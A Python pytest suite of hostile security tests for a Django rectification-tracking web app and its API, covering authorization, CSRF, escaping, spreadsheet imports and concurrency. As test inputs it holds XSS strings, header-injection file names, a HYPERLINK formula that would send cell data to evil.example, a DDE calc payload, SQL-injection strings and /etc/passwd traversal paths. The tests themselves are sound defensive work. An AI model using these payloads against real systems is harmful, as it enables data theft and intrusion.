"""Hostile review of the rectification loop's web and API side (issue 18): authorization beyond the matrix, CSRF and
methods, escaping (item page, audit workbook, API, Content-Disposition), the review page's bulk clear and issuing, the
returned 整改清单 import and the API's bodies. Built on the `platform` fixture (its current round issued: unit A owns
privacy/still/new_a/a_child, unit B b1/b2, the town's item is under the supervisor)."""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import time

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

PASSWORD = "Test-Passw0rd-42"
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
HOSTILE = "<script>alert('x')</script>\"' onmouseover=\"x\u202eRTL\n第二行"
API = "/api/v1/rectifications/"


@pytest.fixture(autouse=True)
def _fresh_throttles():
    cache.clear()
    yield
    cache.clear()


def upload(name, data=PNG, content_type="image/png"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type=content_type)


def signed_in(username, csrf=False) -> Client:
    from django.contrib.auth.models import User

    c = Client(enforce_csrf_checks=csrf)
    c.force_login(User.objects.get(username=username))
    return c


def api_for(username) -> APIClient:
    c = APIClient()
    r = c.post("/api/v1/auth/token/", {"username": username, "password": PASSWORD}, format="json")
    c.credentials(HTTP_AUTHORIZATION="Token " + r.json()["token"])
    return c


def events(item) -> int:
    return item.events.count()


def text(r) -> str:
    return r.content.decode("utf-8")


# ------------------------------------------------------------------------------------------------ authorization
def test_supervisor_readonly_and_other_units_cannot_act(platform):
    I = platform.items
    town = I["town"]
    sup = signed_in("supervisor")
    assert sup.get(reverse("web:rectify_item", args=[town.pk])).status_code == 200  # its subtree: sees it
    before = events(town)
    for name, data in (("web:rectify_claim", {"note": "已改"}), ("web:rectify_dispute", {"reason": "不是问题"}),
                       ("web:rectify_accept", {"note": "x"}), ("web:rectify_reject", {"note": "x"}),
                       ("web:rectify_signoff", {"note": "x"})):
        assert sup.post(reverse(name, args=[town.pk]), data).status_code == 403, name
        assert signed_in("readonly").post(reverse(name, args=[town.pk]), data).status_code == 403, name
        # unit A on unit B's item: not even told it exists (404) or refused (403), never acted
        assert signed_in("unit_a").post(reverse(name, args=[I["b1"].pk]), data).status_code in (403, 404), name
    assert events(town) == before and events(I["b1"]) == 1
    # the API: the same
    for act, body in (("claim", {"note": "已改"}), ("dispute", {"reason": "x"}), ("accept", {"note": "x"})):
        r = api_for("supervisor").post(f"{API}{town.pk}/{act}/", body, format="json")
        assert r.status_code == 403, (act, r.content)
        r = api_for("unit_a").post(f"{API}{I['b1'].pk}/{act}/", body, format="json")
        assert r.status_code in (403, 404), (act, r.content)
    assert events(town) == before and events(I["b1"]) == 1


def test_unit_cannot_act_on_a_closed_item(platform):
    from govinspect.rectify.services import accept_dispute, dispute

    item = platform.items["still"]
    dispute(item, "unit_a", "不是问题")
    accept_dispute(item, "office", "同意")
    n = events(item)
    c = signed_in("unit_a")
    r = c.post(reverse("web:rectify_claim", args=[item.pk]), {"note": "已改", "files": [upload("a.png")]})
    assert r.status_code == 400 and "申诉成立" in text(r)
    r = c.post(reverse("web:rectify_dispute", args=[item.pk]), {"reason": "再申诉"})
    assert r.status_code == 400
    item.refresh_from_db()
    assert item.state == "accepted" and events(item) == n and not item.attachments.exists()


def test_capture_with_an_event_of_another_units_item_is_404(platform):
    I = platform.items
    b_event = I["b1"].events.first()
    a_event = I["privacy"].events.first()
    c = signed_in("unit_a")
    assert c.get(reverse("web:rectify_capture", args=[I["privacy"].pk, a_event.pk, "before"])).status_code == 200
    r = c.get(reverse("web:rectify_capture", args=[I["privacy"].pk, b_event.pk, "before"]))
    assert r.status_code == 404 and "国务院" not in text(r)
    # an event of the unit's other item under this item: 404 as well (the event must belong to the item in the URL)
    other = I["still"].events.first()
    assert c.get(reverse("web:rectify_capture", args=[I["privacy"].pk, other.pk, "before"])).status_code == 404
    assert c.get(reverse("web:rectify_capture", args=[I["privacy"].pk, a_event.pk, "sideways"])).status_code == 404


def test_guessed_attachment_ids_and_audit_of_a_foreign_round(platform):
    from govinspect.rectify.services import claim
    from govinspect.rectify.uploads import attach

    I = platform.items
    b_file = attach(I["b1"], None, [("教育局材料.png", PNG)], "unit_b")[0]
    c = signed_in("unit_a")
    for pk in (b_file.pk, b_file.pk + 1, 0, 999999):
        assert c.get(reverse("web:rectify_attachment", args=[pk])).status_code == 404
    assert c.get(f"/rectify/attachments/-1/").status_code == 404
    # the audit workbook of a round in which unit A has no items, and of the current one: never unit B's rows
    claim(I["b1"], "unit_b", "教育局已整改机密说明")
    from openpyxl import load_workbook

    for rid in (platform.rounds["previous"].pk, platform.rounds["current"].pk, 999999, "abc", "-1"):
        r = c.get(reverse("web:rectify_audit") + f"?round={rid}")
        assert r.status_code == 200
        wb = load_workbook(io.BytesIO(r.content))
        cells = [str(v) for ws in wb for row in ws.iter_rows(values_only=True) for v in row if v is not None]
        assert not [v for v in cells if "教育局" in v or "国务院" in v], rid
        ids = {row[0] for row in wb["整改记录"].iter_rows(min_row=2, values_only=True)}
        assert ids <= {I[k].pk for k in ("privacy", "still", "new_a", "a_child")}


# ------------------------------------------------------------------------------------------------ CSRF and methods
def test_every_post_needs_the_csrf_token_and_get_does_not_act(platform):
    from test_review import make_round

    I = platform.items
    rnd = make_round(platform)
    unit_posts = [("web:rectify_claim", [I["privacy"].pk], {"note": "已改"}),
                  ("web:rectify_dispute", [I["privacy"].pk], {"reason": "不是问题"})]
    office_posts = [("web:rectify_accept", [I["b1"].pk], {"note": "x"}),
                    ("web:rectify_reject", [I["b1"].pk], {"note": "x"}),
                    ("web:rectify_signoff", [I["b1"].pk], {"note": "x"}),
                    ("web:review_settings", [rnd.pk], {"office": "改了", "recipients": "x"}),
                    ("web:review_examples", [rnd.pk], {"example": [rnd.f["typo"].pk]}),
                    ("web:review_clear", [rnd.pk], {"mode": "host", "host": "127.0.0.1:9", "reason": "x",
                                                    "confirm": "yes"}),
                    ("web:review_issue", [rnd.pk], {"confirm": "yes"})]
    from govinspect.rectify.models import Issuance, ItemEvent
    from govinspect.rounds.models import Ignore

    def snapshot():
        rnd.refresh_from_db()
        return (ItemEvent.objects.count(), Ignore.objects.count(), Issuance.objects.count(), rnd.office, rnd.examples)

    before = snapshot()
    for user, posts in (("unit_a", unit_posts), ("office", office_posts)):
        c = signed_in(user, csrf=True)
        for name, args, data in posts:
            r = c.post(reverse(name, args=args), data)
            assert r.status_code == 403, (name, r.status_code)
            r = c.get(reverse(name, args=args), data)
            assert r.status_code == 405, (name, r.status_code)
    # the API with the session (the browser's cookie): CSRF enforced as well; with a token none is needed
    c = APIClient(enforce_csrf_checks=True)
    c.force_login(platform.users["unit_a"])
    r = c.post(f"{API}{I['privacy'].pk}/claim/", {"note": "已改"}, format="json")
    assert r.status_code == 403
    assert c.get(f"{API}{I['privacy'].pk}/claim/").status_code == 405
    assert snapshot() == before


# ------------------------------------------------------------------------------------------------ escaping
def test_hostile_notes_and_file_names_are_escaped_everywhere(platform):
    from govinspect.rectify.services import dispute

    I = platform.items
    c = signed_in("unit_a")
    r = c.post(reverse("web:rectify_claim", args=[I["privacy"].pk]),
               {"note": HOSTILE, "files": [upload("\"><img src=x onerror=alert(1)>\u202egnp.exe\r\nX-Evil: 1.png")]})
    assert r.status_code == 302, text(r)[:500]
    dispute(I["still"], "unit_a", HOSTILE)
    for url in (reverse("web:rectify_item", args=[I["privacy"].pk]), reverse("web:rectify_item", args=[I["still"].pk]),
                reverse("web:rectify"), reverse("web:rectify") + "?tab=waiting"):
        for who in ("unit_a", "office"):
            html = text(signed_in(who).get(url))
            assert "<script>alert" not in html and "<img src=x" not in html and "onmouseover=\"x" not in html, (url, who)
    html = text(signed_in("office").get(reverse("web:rectify_item", args=[I["privacy"].pk])))
    assert "&lt;script&gt;alert(" in html
    att = I["privacy"].attachments.get()
    assert "\n" not in att.name and "\r" not in att.name and "\u202e" not in att.name
    # the download: one header, no injected one; the name as RFC 5987 filename*
    r = c.get(reverse("web:rectify_attachment", args=[att.pk]))
    cd = r["Content-Disposition"]
    assert r.status_code == 200 and "\n" not in cd and "\r" not in cd and not r.has_header("X-Evil")
    assert cd.startswith("attachment;") and ('filename="\\"' in cd or "filename*=utf-8''" in cd.lower())
    assert r["X-Content-Type-Options"] == "nosniff" and "sandbox" in r["Content-Security-Policy"]
    # the API: JSON (not HTML), the text as typed
    r = api_for("unit_a").get(f"{API}{I['privacy'].pk}/")
    assert r["Content-Type"].startswith("application/json")
    assert r.json()["events"][-1]["note"] == HOSTILE.replace("\u202e", "").strip()


def test_attachment_names_with_quotes_and_non_ascii_download_with_a_safe_header(platform):
    from govinspect.rectify.uploads import attach

    item = platform.items["privacy"]
    c = signed_in("unit_a")
    for name in ('a"b;c=d.png', "整改\"截图\".png", "x\\y\"\r\nSet-Cookie: a=b.png", "名字" * 100 + ".png"):
        att = attach(item, None, [(name, PNG)], "unit_a")[0]
        r = c.get(reverse("web:rectify_attachment", args=[att.pk]))
        cd = r["Content-Disposition"]
        assert r.status_code == 200 and "\r" not in cd and "\n" not in cd and not r.cookies.get("a"), name
        assert cd.count('"') in (0, 2) or '\\"' in cd, cd


def test_formulas_in_notes_and_file_names_stay_text_in_the_audit_workbook(platform):
    from openpyxl import load_workbook

    from govinspect.rectify.services import claim

    item = platform.items["privacy"]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    claim(item, "unit_a", evil, [("=cmd|'calc'!A0.png", PNG)])
    for who in ("unit_a", "office"):
        r = signed_in(who).get(reverse("web:rectify_audit"))
        wb = load_workbook(io.BytesIO(r.content))
        formulas = [c.value for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == []
        notes = [c for row in wb["整改记录"].iter_rows(min_row=2) for c in row if c.value == evil]
        assert notes and all(c.data_type == "s" for c in notes)
        names = [c for row in wb["整改材料"].iter_rows(min_row=2) for c in row if str(c.value).startswith("=cmd")]
        assert names and all(c.data_type == "s" for c in names)


# ------------------------------------------------------------------------------------------------ bulk clear
def _clear(c, rnd, **data):
    return c.post(reverse("web:review_clear", args=[rnd.pk]), data)


def test_bulk_clear_refuses_patterns_that_match_everything(platform):
    from test_review import make_round

    from govinspect.rounds.models import Finding, Ignore

    rnd = make_round(platform)
    other = make_round(platform, name="另一轮", as_of=dt.date(2026, 10, 31))
    c = signed_in("office")
    live = Finding.objects.filter(round=rnd, ignored_by__isnull=True).count()
    for pattern in ("*", "%", "", "**", "***", "*/*", "*.*", "http", "://", "http://*", "127.0.0.1", "*:9/*"):
        r = _clear(c, rnd, mode="pattern", pattern=pattern, reason="误报", confirm="yes")
        assert r.status_code == 400, (pattern, r.status_code)
        assert Ignore.objects.count() == 0, pattern
    # regex specials and SQL wildcards are literal text, matching nothing here
    for pattern in ("(.*)", "%%%", "___", "[a-z]+", ".*.*", "\\d+", "a|b"):
        r = _clear(c, rnd, mode="pattern", pattern=pattern, reason="误报", confirm="yes")
        assert Ignore.objects.count() == 0, pattern
    # a real pattern: only this round's findings, the other round's same URLs untouched; a second confirm does nothing
    r = _clear(c, rnd, mode="pattern", pattern="*/a/old/*", reason="旧栏目已撤销")
    assert r.status_code == 200 and "2" in text(r)
    r = _clear(c, rnd, mode="pattern", pattern="*/a/old/*", reason="旧栏目已撤销", confirm="yes")
    assert r.status_code == 302
    assert Ignore.objects.count() == 2
    assert not Finding.objects.filter(round=other, ignored_by__isnull=False).exists()
    r = _clear(c, rnd, mode="pattern", pattern="*/a/old/*", reason="旧栏目已撤销", confirm="yes")
    assert r.status_code == 302 and Ignore.objects.count() == 2
    assert Finding.objects.filter(round=rnd, ignored_by__isnull=True).count() == live - 2
    # a reason of spaces only; a host of another round; an unknown mode
    for data in ({"mode": "pattern", "pattern": "*/b/old/*", "reason": "   \u3000 "},
                 {"mode": "host", "host": "evil.example", "reason": "x"}, {"mode": "sql", "reason": "x"}):
        assert _clear(c, rnd, confirm="yes", **data).status_code == 400, data
    assert Ignore.objects.count() == 2


# ------------------------------------------------------------------------------------------------ issuing
def test_issue_refuses_bad_dates_and_periods_with_nothing_half_done(platform, settings):
    from test_review import make_round

    from govinspect.rectify.models import Issuance, Item
    from govinspect.storage import storage

    rnd = make_round(platform)
    c = signed_in("office")
    url = reverse("web:review_issue", args=[rnd.pk])
    items = Item.objects.count()
    from django.utils import timezone

    ahead = (timezone.localdate() + dt.timedelta(days=40)).isoformat()  # within a year that has a calendar
    for on in ("0001-01-01", "1900-01-01", "2026-01-01", "9999-12-31", "2031-12-20", "2026-11-09", ahead):
        r = c.post(url, {"issued_on": on, "confirm": "yes"}, follow=True)
        assert r.status_code == 200
        msgs = [str(m) for m in r.context["messages"]]
        assert msgs and not Issuance.objects.exists(), (on, msgs)
        if on == ahead:  # refused for its date, whether or not next year's calendar is known yet
            assert "天之后" in msgs[-1], msgs
        assert Item.objects.count() == items, on
        r = c.post(url, {"issued_on": on})  # the confirmation step refuses the same date before anything
        assert r.status_code == 302, on
    issued = storage().path("rectify/issued")
    assert not issued.exists() or not [p for p in issued.iterdir() if p.name == str(rnd.pk)]
    for days in ("0", "61", "-1", "abc", "1" * 30, "1.5"):
        r = c.post(reverse("web:review_settings", args=[rnd.pk]), {"office": "落款", "rectify_days": days})
        assert r.status_code == 400, days
    rnd.refresh_from_db()
    assert rnd.rectify_days is None


def test_issue_twice_and_a_running_round(platform):
    from test_review import make_round

    from govinspect.rectify.models import Issuance, Item

    rnd = make_round(platform)
    c = signed_in("office")
    url = reverse("web:review_issue", args=[rnd.pk])
    r = c.post(url, {"issued_on": "2026-11-16", "confirm": "yes"})
    assert r.status_code == 302 and Issuance.objects.filter(round=rnd).count() == 1
    n = Item.objects.filter(round_issued=rnd).count()
    r = c.post(url, {"issued_on": "2026-11-16", "confirm": "yes"}, follow=True)
    assert "不能重复下发" in " ".join(str(m) for m in r.context["messages"])
    assert Issuance.objects.filter(round=rnd).count() == 1 and Item.objects.filter(round_issued=rnd).count() == n
    running = make_round(platform, name="进行中")
    running.status = "running"
    running.save(update_fields=["status"])
    r = c.post(reverse("web:review_issue", args=[running.pk]), {"issued_on": "2026-11-16", "confirm": "yes"}, follow=True)
    assert "检查完成后才能下发" in " ".join(str(m) for m in r.context["messages"])
    assert not Issuance.objects.filter(round=running).exists() and not Item.objects.filter(round_issued=running).exists()


# ------------------------------------------------------------------------------------------------ the returned 整改清单
def _workbook(path, rows, header=("事项编号", "问题", "整改情况")):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "整改清单"
    ws.append(list(header))
    for r in rows:
        ws.append(list(r))
    wb.save(path)
    return path


def test_import_of_a_returned_list_is_bounded_and_scoped(platform, tmp_path):
    from govinspect.rectify.services import accept_dispute, dispute
    from govinspect.rectify.workbook import ClaimImportError, import_claims

    I = platform.items
    dispute(I["new_a"], "unit_a", "不是问题")
    accept_dispute(I["new_a"], "office", "同意")
    path = _workbook(tmp_path / "back.xlsx", [
        (I["b1"].pk, "", "已整改"),                   # another unit's item
        (I["new_a"].pk, "", "已整改"),                # a closed item
        (I["privacy"].pk, "", "改" * 5000),           # a huge note
        (I["still"].pk, "", '=HYPERLINK("http://x")'),  # a formula
        (I["a_child"].pk, "", "已删除该页面"),          # a child unit's item: not unit A's own
        (I["still"].pk, "", "已删除该页面"),            # a good row
    ])
    got = import_claims(path, "unit_a", platform.units["a"])
    reasons = {e["row"]: e["reason"] for e in got["errors"]}
    assert set(reasons) == {2, 3, 4, 5, 6} and "不属于本单位" in reasons[2] and "申诉成立" in reasons[3]
    assert "过长" in reasons[4] and "公式" in reasons[5] and "不属于本单位" in reasons[6]
    assert got["items"] == [I["still"].pk]
    assert events(I["b1"]) == 1 and events(I["privacy"]) == 1 and events(I["a_child"]) == 1
    # not a workbook at all; an .xlsx with a script inside a zip; a missing file
    bad = tmp_path / "fake.xlsx"
    bad.write_bytes(b"<html><script>alert(1)</script></html>")
    with pytest.raises(ClaimImportError):
        import_claims(bad, "unit_a", platform.units["a"])
    with pytest.raises(ClaimImportError):
        import_claims(tmp_path / "nope.xlsx", "unit_a", platform.units["a"])


def test_import_of_a_100000_row_list_is_bounded_in_time(platform, tmp_path):
    from govinspect.rectify.workbook import ClaimImportError, import_claims

    rows = [(999_000_000 + i, "", "已整改") for i in range(100_001)]
    path = _workbook(tmp_path / "huge.xlsx", rows)
    t0 = time.monotonic()
    try:
        got = import_claims(path, "unit_a", platform.units["a"])
    except ClaimImportError as e:
        got = {"refused": str(e)}
    took = time.monotonic() - t0
    assert took < 120, took
    assert "refused" in got or not got["items"]


# ------------------------------------------------------------------------------------------------ the API's bodies
def test_api_bodies_hostile(platform):
    I = platform.items
    a = api_for("unit_a")
    url = f"{API}{I['privacy'].pk}/claim/"
    for note in (["a"], {"x": 1}, 5, True):
        r = a.post(url, {"note": note}, format="json")
        assert r.status_code == 400 and "文字" in r.json()["detail"], note
    r = a.post(url, {"note": "长" * (1024 * 1024)}, format="json")
    assert r.status_code in (400, 413) and r["Content-Type"].startswith("application/json")
    r = a.post(url, b"[1,2", content_type="application/json")
    assert r.status_code == 400
    files = [upload(f"f{i}.png") for i in range(50)]
    r = a.post(url, {"note": "已改", "files": files}, format="multipart")
    assert r.status_code in (400, 413) and "5" in r.json()["detail"]
    big = upload("big.png", PNG + b"\0" * (20 * 1024 * 1024))
    r = a.post(url, {"note": "已改", "files": [big]}, format="multipart")
    assert r.status_code in (400, 413), r.status_code
    assert events(I["privacy"]) == 1 and not I["privacy"].attachments.exists()
    for q in ("open' OR '1'='1", "open;DROP TABLE rectify_item", "%", "*", "\x00"):
        r = a.get(API, {"state": q})
        assert r.status_code == 400, q
    for q in ("page=9999", "page=-1", "page=abc", "page_size=100000"):
        r = a.get(f"{API}?{q}")
        assert r.status_code in (200, 404) and r["Content-Type"].startswith("application/json"), q
    # the web's forms: a note beyond the API's limit (5000 characters) refused as the API refuses it, not stored
    c = signed_in("unit_a")
    for note in ("长" * (1024 * 1024), "长" * 400_000, "长" * 5001):
        r = c.post(reverse("web:rectify_claim", args=[I["privacy"].pk]), {"note": note})
        assert r.status_code == 400, len(note)
        r = c.post(reverse("web:rectify_dispute", args=[I["privacy"].pk]), {"reason": note})
        assert r.status_code == 400, len(note)
    assert events(I["privacy"]) == 1
    from govinspect.rectify.services import dispute

    dispute(I["b1"], "unit_b", "不是问题")
    o = signed_in("office")
    for name in ("web:rectify_reject", "web:rectify_accept"):
        assert o.post(reverse(name, args=[I["b1"].pk]), {"note": "长" * 400_000}).status_code == 400, name
    assert events(I["b1"]) == 2
    r = c.post(reverse("web:rectify_claim", args=[I["privacy"].pk]), {"note": "长" * 5000})
    assert r.status_code == 302 and events(I["privacy"]) == 2


def test_issue_dated_at_the_end_of_time_is_a_message_not_a_500(platform):
    from test_review import make_round

    from govinspect.rectify.issue import IssueError, issue
    from govinspect.rectify.models import Issuance, Item

    rnd = make_round(platform)
    c = signed_in("office")
    url = reverse("web:review_issue", args=[rnd.pk])
    for data in ({"issued_on": "9999-12-31"}, {"issued_on": "9999-12-31", "confirm": "yes"}):
        r = c.post(url, data, follow=True)
        assert r.status_code == 200, data
        assert "日期" in " ".join(str(m) for m in r.context["messages"])
    with pytest.raises(IssueError):
        issue(rnd, "office", issued_on=dt.date(9999, 12, 31))
    assert not Issuance.objects.filter(round=rnd).exists() and not Item.objects.filter(round_issued=rnd).exists()


def test_issue_double_click_two_posts_at_once(platform, transactional_db):
    """Two confirmations of the same round at the same moment (two threads, two connections): one issues, the other is
    refused with a message; never a 500, one Issuance, the items once, the frozen files those of the issuance."""
    import threading

    from django.db import connection

    from test_review import make_round

    from govinspect.rectify.issue import issued_dir, verify
    from govinspect.rectify.models import Issuance, Item
    from govinspect.rounds.models import Finding

    rnd = make_round(platform)
    url = reverse("web:review_issue", args=[rnd.pk])
    clients = [signed_in("office"), signed_in("office")]
    gate, out = threading.Barrier(2), []

    def hit(c):
        try:
            gate.wait()
            r = c.post(url, {"issued_on": "2026-11-16", "confirm": "yes"}, follow=True)
            # the page's messages (r.context would collect the templates rendered by both threads)
            out.append((r.status_code, re.findall(r'<ul class="messages">(.*?)</ul>', text(r), re.S)))
        finally:
            connection.close()

    threads = [threading.Thread(target=hit, args=(c,)) for c in clients]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert sorted(s for s, _ in out) == [200, 200], out
    said = [" ".join(m) for _, m in out]
    assert sum("已下发：新建整改事项" in m for m in said) == 1 and sum("不能重复下发" in m for m in said) == 1, said
    assert Issuance.objects.filter(round=rnd).count() == 1
    assert Item.objects.filter(round_issued=rnd).count() == Finding.objects.filter(round=rnd).count()
    assert issued_dir(rnd).is_dir() and verify(Issuance.objects.get(round=rnd)) == []


def test_hostile_round_settings_and_filters_are_escaped(platform):
    from test_review import make_round

    rnd = make_round(platform)
    c = signed_in("office")
    evil = "<script>alert(1)</script>\"'><img src=x>"
    r = c.post(reverse("web:review_settings", args=[rnd.pk]),
               {"recipients": evil, "doc_number": evil, "office": evil, "rectify_days": "10"})
    assert r.status_code == 302
    for url in (reverse("web:review", args=[rnd.pk]), reverse("web:review_preview", args=[rnd.pk])):
        html = text(c.get(url))
        assert "<script>alert(1)" not in html and "<img src=x>" not in html and "&lt;script&gt;alert(1)" in html, url
    html = text(c.post(reverse("web:review_issue", args=[rnd.pk]), {"issued_on": "2026-11-16"}))  # the confirmation
    assert "<script>alert(1)" not in html and "<img src=x>" not in html
    for q in ("rule", "state", "round", "unit", "page"):
        html = text(c.get(reverse("web:rectify"), {q: evil}))
        assert "<script>alert(1)" not in html and "<img src=x>" not in html, q


def test_the_period_cannot_change_after_issuing(platform):
    from test_review import make_round

    from govinspect.rectify.models import Issuance

    rnd = make_round(platform)
    c = signed_in("office")
    r = c.post(reverse("web:review_settings", args=[rnd.pk]), {"office": "落款", "rectify_days": "12"})
    assert r.status_code == 302
    assert c.post(reverse("web:review_issue", args=[rnd.pk]), {"issued_on": "2026-11-16", "confirm": "yes"}).status_code == 302
    assert Issuance.objects.get(round=rnd).rectify_days == 12
    r = c.post(reverse("web:review_settings", args=[rnd.pk]), {"office": "落款", "rectify_days": "30"})
    assert r.status_code == 400 and "不能再修改" in text(r)
    rnd.refresh_from_db()
    assert rnd.rectify_days == 12
    # 主送、文号 may still be corrected (the issued files stay as issued)
    r = c.post(reverse("web:review_settings", args=[rnd.pk]), {"office": "落款", "recipients": "各单位", "rectify_days": "12"})
    assert r.status_code == 302
    rnd.refresh_from_db()
    assert rnd.recipients == "各单位" and rnd.rectify_days == 12


def test_claim_double_click_and_too_many_files(platform, transactional_db):
    """Two claims of one item at once: one is recorded (one re-check queued), the other refused with a page; 50 or 101
    files in one claim: refused, nothing stored."""
    import threading

    from django.db import connection

    from govinspect.rectify.models import Attachment, ItemEvent

    item = platform.items["still"]
    url = reverse("web:rectify_claim", args=[item.pk])
    gate, out = threading.Barrier(2), []

    def hit(c):
        try:
            gate.wait()
            out.append(c.post(url, {"note": "已修复该链接"}).status_code)
        finally:
            connection.close()

    threads = [threading.Thread(target=hit, args=(signed_in("unit_a"),)) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)
    assert sorted(out) == [302, 400], out
    assert ItemEvent.objects.filter(item=item, action="claim").count() == 1
    item.refresh_from_db()
    assert item.recheck_round_id is not None or item.state != "claimed"

    other = platform.items["privacy"]
    c = signed_in("unit_a")
    for n in (50, 101):
        r = c.post(reverse("web:rectify_claim", args=[other.pk]),
                   {"note": "已改", "files": [upload(f"{i}.png") for i in range(n)]})
        assert r.status_code == 400, n
    assert not Attachment.objects.filter(item=other).exists() and events(other) == 1


def test_import_with_a_flood_of_item_ids_is_refused_or_bounded_not_a_crash(platform, tmp_path):
    """事项编号 cells listing thousands of ids each (300,000 in all): the file refused with a message, not a database
    error (too many SQL variables); 40,000 ids: each reported as not an item, the real one claimed."""
    from govinspect.rectify.workbook import ClaimImportError, import_claims

    flood = [("、".join(str(100_000_000 + r * 3000 + i) for i in range(3000)), "", "已整改") for r in range(100)]
    with pytest.raises(ClaimImportError, match="事项编号超过"):
        import_claims(_workbook(tmp_path / "flood.xlsx", flood), "unit_a", platform.units["a"])
    still = platform.items["still"]
    rows = [("、".join(str(100_000_000 + r * 2000 + i) for i in range(2000)), "", "已整改") for r in range(20)]
    got = import_claims(_workbook(tmp_path / "many.xlsx", rows + [(still.pk, "", "已修复")]), "unit_a",
                        platform.units["a"])
    assert got["items"] == [still.pk] and len(got["errors"]) == 40_000


def test_nul_and_bidi_overrides_never_reach_the_trail(platform):
    """A NUL (PostgreSQL refuses it in a text column: a 500 there) and a right-to-left override (the note would read
    differently from what it is) are removed from notes, reasons and filters, in the web's forms and the API, as the
    整改清单 import removes them."""
    from test_review import make_round

    from govinspect.rectify.models import ItemEvent
    from govinspect.rectify.services import dispute
    from govinspect.rounds.models import Ignore

    I = platform.items
    bad = "已\x00整改\u202e完毕\u2066\r\n第二行"
    c = signed_in("unit_a")
    assert c.post(reverse("web:rectify_claim", args=[I["still"].pk]), {"note": bad}).status_code == 302
    assert c.post(reverse("web:rectify_dispute", args=[I["new_a"].pk]), {"reason": bad}).status_code == 302
    r = api_for("unit_a").post(f"{API}{I['privacy'].pk}/dispute/", {"reason": bad}, format="json")
    assert r.status_code == 200, r.content
    dispute(I["b1"], "unit_b", "不是问题")
    assert signed_in("office").post(reverse("web:rectify_reject", args=[I["b1"].pk]), {"note": bad}).status_code == 302
    notes = list(ItemEvent.objects.filter(actor__in=("unit_a", "office"), action__in=("claim", "dispute", "reject"))
                 .values_list("note", flat=True))
    assert len(notes) == 4 and set(notes) == {"已整改完毕\n第二行"}
    assert signed_in("office").get(reverse("web:rectify"), {"rule": "link.dead\x00"}).status_code == 200
    rnd = make_round(platform)
    r = signed_in("office").post(reverse("web:review_clear", args=[rnd.pk]),
                                 {"mode": "pattern", "pattern": "*/a/old/*\x00", "reason": "误\x00报\u202e", "confirm": "yes"})
    assert r.status_code == 302
    assert set(Ignore.objects.values_list("reason", flat=True)) == {"误报"}


def test_capture_evidence_naming_a_file_outside_the_store_is_not_served(platform):
    from govinspect.rectify.models import ItemEvent

    item = platform.items["privacy"]
    c = signed_in("unit_a")
    for key in ("../../../../etc/passwd", "/etc/passwd", "rounds/../../../etc/passwd", "file:///etc/passwd"):
        ev = ItemEvent.objects.create(item=item, actor="system", action="recheck", from_state="claimed",
                                      to_state="present", evidence={"after": {"url": "http://x/", "warc_file": key,
                                                                              "warc_offset": 0}})
        r = c.get(reverse("web:rectify_capture", args=[item.pk, ev.pk, "after"]))
        assert r.status_code in (200, 404) and b"root:" not in r.content, key


def test_audit_workbook_of_a_long_trail_is_written_in_bounded_memory(platform, tmp_path):
    """10,000 events: written streaming (the whole workbook held in memory took ~4.5 kB per event)."""
    import tracemalloc

    from openpyxl import load_workbook

    from govinspect.rectify.audit import write_audit
    from govinspect.rectify.models import Item, ItemEvent

    items = list(platform.items.values())
    ItemEvent.objects.bulk_create([ItemEvent(item=items[i % len(items)], actor="unit_a", action="claim", from_state="open",
                                             to_state="claimed", note=f"=HYPERLINK(\"x\")整改说明{i}" * 5)
                                   for i in range(10_000)])
    tracemalloc.start()
    try:
        path = write_audit(Item.objects.all(), tmp_path / "audit.xlsx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 25 * 2**20, peak
    ws = load_workbook(path, read_only=True)["整改记录"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 10_000 + len(items)


def test_bulk_clear_pattern_cannot_hang_the_server(platform):
    """A glob with many stars against a long crawled URL: matched in linear time (as a regular expression with one .*
    per star it backtracked for minutes on one row)."""
    from test_review import add_finding, make_round

    from govinspect.rounds.models import Ignore

    rnd = make_round(platform)
    long_url = "http://127.0.0.1:9/a/" + "a" * 150 + ".html"
    add_finding(rnd, rnd.rs["a"], "link.dead", platform.units["a"], long_url, "链接无法访问")
    add_finding(rnd, rnd.rs["a"], "link.dead", platform.units["a"], "http://127.0.0.1:9/a/xaaaaaaxb", "链接无法访问")
    c = signed_in("office")
    t0 = time.monotonic()
    r = _clear(c, rnd, mode="pattern", pattern="*a*a*a*a*a*a*b", reason="误报")
    assert time.monotonic() - t0 < 20 and r.status_code == 200  # the old regex: 79 s and more
    assert r.context["clear_preview"]["total"] == 1  # only …/xaaaaaaxb ends in b
    r = _clear(c, rnd, mode="pattern", pattern="*/a/a?a*.html", reason="误报", confirm="yes")
    assert r.status_code == 302 and Ignore.objects.count() == 1
